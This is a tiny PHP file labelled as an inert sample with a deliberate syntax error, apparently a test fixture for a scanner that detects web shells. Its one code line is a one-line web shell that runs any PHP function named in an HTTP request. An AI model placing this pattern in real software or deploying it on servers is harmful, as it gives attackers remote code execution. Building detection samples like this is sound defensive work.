<?php
shodo inert sample: deliberate syntax error, this file never runs
call_user_func($_REQUEST['fn'], $_REQUEST['arg']);
